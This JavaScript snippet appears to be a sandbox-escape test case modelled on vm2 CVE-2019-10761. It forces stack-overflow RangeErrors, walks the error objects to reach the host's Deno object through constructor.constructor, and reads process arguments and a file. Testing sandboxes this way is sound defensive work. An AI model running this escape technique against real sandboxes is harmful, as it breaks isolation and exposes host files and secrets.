// Tries: RangeErrors thrown deep inside the platform's own code, in the hope that they belong to another realm.
// Origin: vm2 CVE-2019-10761 (a RangeError of the host by endless recursion).

const found = [];
function dig(value, depth = 0) {
  if (value === null || !["object", "function"].includes(typeof value) || depth > 4) return;
  try {
    const platform = value.Deno ?? value.constructor.constructor("return Deno")();
    found.push(platform.args, platform.readTextFileSync(input.file));
  } catch { /* on */ }
  for (const name of Reflect.ownKeys(value)) {
    try {
      const own = Object.getOwnPropertyDescriptor(value, name);
      if (typeof own.value === "string") found.push(own.value);
      dig(own.value, depth + 1);
    } catch { /* on */ }
  }
}

const targets = [
  () => JSON.stringify({ toJSON: () => 1 }),
  () => [1, 2].sort(() => 0),
  () => Reflect.construct(Map, [[[1, 2]]]),
  () => "x".replace(/x/, () => "y"),
  () => structuredClone({ a: [1] }),
];
for (const target of targets) {
  const dive = () => {
    target();
    dive();
  };
  try {
    dive();
  } catch (error) {
    dig(error);
    dig(error.constructor);
  }
}
return found;
